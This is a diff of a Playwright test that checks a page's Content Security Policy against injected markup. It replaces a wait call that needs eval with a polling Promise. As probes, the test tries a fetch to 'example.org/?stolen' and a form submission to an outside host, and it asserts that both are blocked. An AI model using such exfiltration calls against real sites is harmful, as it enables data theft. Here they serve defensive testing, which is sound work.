@@ -138,7 +138,7 @@ def test_policy_holds_where_a_name_is_not_escaped(evil_report, browser, tmp_path
     assert page.locator("#bold").count() == 1 # it is markup
     assert page.evaluate("fetch('https://example.org/?stolen').catch(() => 'refused')") == "refused"
     page.evaluate("() => { const f = document.createElement('form'); f.action = 'https://example.org'; document.body.append(f); f.submit(); }")
-    page.wait_for_function("violations.includes('form-action')")
+    page.evaluate("new Promise(done => { const look = () => violations.includes('form-action') ? done() : setTimeout(look, 20); look(); })") # `wait_for_function` looks again by eval, which the policy forbids: it failed where the event came late
     assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src", "base-uri", "form-action"} <= set(page.evaluate("violations"))
     assert page.evaluate("window.hit") is None and asked == [] and page.locator(".argminn-reader .base").count() == 60
     page.close()
